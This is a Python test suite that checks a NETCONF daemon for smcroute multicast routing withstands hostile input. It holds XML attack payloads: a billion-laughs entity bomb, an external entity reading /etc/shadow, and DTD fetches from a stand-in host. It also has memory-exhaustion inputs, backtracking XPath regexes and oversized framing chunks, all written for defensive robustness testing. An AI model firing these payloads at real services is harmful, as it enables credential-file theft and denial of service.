"""Messages that no client should send: each gets its answer, and harms nobody else."""

from __future__ import annotations

import pytest

from lab.netconf import NETCONF, SMCROUTE
from tests.integration.agent.hostile.attack import (
    MEGABYTE,
    NOTHING,
    RUNNING,
    Attacker,
    chunk,
    edit,
    hello,
    route,
    rpc,
    tag,
    unharmed,
)

BOMB = "".join(f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10))
DTD = {
    "DTD": "<!DOCTYPE rpc>",
    "billion laughs": f'<!DOCTYPE rpc [<!ENTITY e0 "lol">{BOMB}]>',
    "quadratic blowup": f'<!DOCTYPE rpc [<!ENTITY e9 "{"a" * 100_000}">]>',
    "external entity": '<!DOCTYPE rpc [<!ENTITY e9 SYSTEM "file:///etc/shadow">]>',
    "parameter entity": '<!DOCTYPE rpc [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
    "external DTD": '<!DOCTYPE rpc SYSTEM "http://192.0.2.1/x.dtd">',
}


def many(template: str, count: int) -> str:
    return "".join(template.format(number) for number in range(count))


def filtered(content: str) -> str:
    return (
        f'<get-config>{RUNNING}<filter><smcroute xmlns="{SMCROUTE}">{content}</smcroute></filter>'
        "</get-config>"
    )


def xpath(select: str) -> str:
    return (
        f'<get-config>{RUNNING}<filter type="xpath" xmlns:s="{SMCROUTE}" select="{select}"/>'
        "</get-config>"
    )


ATTRIBUTED = "<a " + many('a{}="" ', 64) + "/>"
BIG = 64 * MEGABYTE
MALFORMED = "malformed-message"
TOO_BIG = "too-big"

MESSAGES = {
    **{name: (dtd + rpc("<get>&e9;</get>"), MALFORMED, 16) for name, dtd in DTD.items()},
    "5000 deep": (rpc("<a>" * 5000 + "</a>" * 5000), MALFORMED, 16),
    "100 000 attributes": (rpc("<get/>", many('a{}="1" ', 100_000)), MALFORMED, 64),
    "100 000 namespaces": (rpc("<get/>", many('xmlns:a{}="u" ', 100_000)), MALFORMED, 64),
    "an attribute twice": (rpc("<get/>", many('a="{}" ', 100_000)), MALFORMED, 64),
    "NUL": (rpc("<get>\0</get>"), MALFORMED, 16),
    "no UTF-8": (rpc("<get>X</get>").encode().replace(b"X", b"\xc3\x28"), MALFORMED, 16),
    "UTF-16": (rpc("<get/>").encode("utf-16"), MALFORMED, 16),
    "UTF-16 without a mark": (rpc("<get/>").encode("utf-16-le"), MALFORMED, 16),
    "UTF-7": ('<?xml version="1.0" encoding="UTF-7"?>' + rpc("<get/>"), MALFORMED, 16),
    "processing instructions": (rpc("<?a b?>" * 100_000 + NOTHING), "data", 64),
    "comments": (rpc("<!-- a -->" * 100_000 + NOTHING), "data", 64),
    "a text of 60 MB": (rpc("<x>" + "a" * 60_000_000 + "</x>"), MALFORMED, 256),
    # As many of each as there may be, and more.
    "elements": (rpc("<x>" + "<a/>" * 970_000 + "</x>"), "operation-not-supported", 320),
    "texts": (rpc("<x>" + f"<a/>{'b' * 16}" * 880_000 + "</x>"), "operation-not-supported", 320),
    "references": (rpc("<x>" + "<a/>&lt;b" * 890_000 + "</x>"), "operation-not-supported", 320),
    "attributes": (rpc("<x>" + ATTRIBUTED * 17_500 + "</x>"), "operation-not-supported", 320),
    "more elements": (rpc("<x>" + "<a/>" * 1_000_000 + "</x>"), TOO_BIG, 64),
    "more attributes": (rpc("<x>" + ATTRIBUTED * 20_000 + "</x>"), TOO_BIG, 64),
    "nothing but tags": (rpc("<" * 60_000_000), TOO_BIG, 160),
    "entries without keys": (rpc(edit("<mroute/>" * 900_000)), "missing-element", 320),
    "one entry 10 000 times": (rpc(edit(route(0) * 10_000)), "bad-element", 64),
    "a value of 9 MB": (
        rpc(edit(f"<phyint><name>{'a' * 9_000_000}</name></phyint>")), "invalid-value", 128,
    ),
    "a costly XPath filter": (
        rpc(xpath("//*[count(//*[count(//*) > 1]) > 1]")), "resource-denied", 64,
    ),
    "a pattern that backtracks": (
        rpc(xpath("//s:group[re-match(., '((2|22)*(2|22)*)*x')]")), "resource-denied", 64,
    ),
    "a subtree filter that scans": (
        rpc(filtered(many("<mroute><group>225.0.0.{}</group></mroute>", 3000))),
        "resource-denied", 64,
    ),
    "a filter of many elements": (
        rpc(filtered("<mroute/>" * 100_000)), "resource-denied", 64,
    ),
}  # fmt: skip


@pytest.mark.parametrize(("message", "verdict", "megabytes"), MESSAGES.values(), ids=MESSAGES)
def test_a_message(target, message, verdict, megabytes):
    octets = chunk(message)
    with (
        unharmed(target.router, target.daemon, most=megabytes * MEGABYTE),
        Attacker(target.daemon) as attacker,
    ):
        assert tag(attacker.say(octets)) == verdict
        # The session goes on.
        assert tag(attacker.say(chunk(rpc(NOTHING)))) == "data"


FRAMING = {
    "a chunk of 4 GiB": (b"\n#4294967295\n<rpc", "too-big"),
    "a chunk beyond the protocol": (b"\n#4294967296\n<rpc", None),
    "no chunk": (rpc(NOTHING).encode(), None),
    "more than the limit": ((b"\n#%d\n" % MEGABYTE + b" " * MEGABYTE) * 65, "too-big"),
}


@pytest.mark.parametrize(("octets", "verdict"), FRAMING.values(), ids=FRAMING)
def test_framing(target, octets, verdict):
    with (
        unharmed(target.router, target.daemon, most=160 * MEGABYTE),
        Attacker(target.daemon) as attacker,
    ):
        assert tag(attacker.say(octets)) == verdict
        assert attacker.at_end()


def test_without_an_end(target):
    with (
        unharmed(target.router, target.daemon, most=160 * MEGABYTE),
        Attacker(target.daemon, hello("1.0")) as attacker,
    ):
        attacker.send(b"<rpc>" + b"]]>]]" * (BIG // 5 + 1000))
        assert attacker.at_end()
        assert b"too-big" in attacker.octets


@pytest.mark.parametrize("greeting", [b"<hello" * 20_000, b"]]>]]>", b"GET / HTTP/1.1\r\n" * 9000])
def test_no_hello(target, greeting):
    with (
        unharmed(target.router, target.daemon),
        Attacker(target.daemon, b"") as attacker,
    ):
        attacker.send(greeting)
        assert attacker.at_end()
        assert b"rpc-reply" not in attacker.octets


def test_chunks_of_one_octet(target):
    message = rpc(NOTHING.replace("<filter/>", "<filter/>" + " " * 500_000)).encode()
    with (
        unharmed(target.router, target.daemon, most=32 * MEGABYTE),
        Attacker(target.daemon) as attacker,
    ):
        octets = b"".join(b"\n#1\n%c" % octet for octet in message) + b"\n##\n"
        assert tag(attacker.say(octets)) == "data"


def test_single_octets(target):
    with unharmed(target.router, target.daemon), Attacker(target.daemon) as attacker:
        octets = chunk(rpc(NOTHING))
        for octet in octets[:-1]:
            attacker.send(bytes([octet]))
        assert tag(attacker.say(octets[-1:])) == "data"
        assert f'xmlns="{NETCONF}"'.encode() in octets
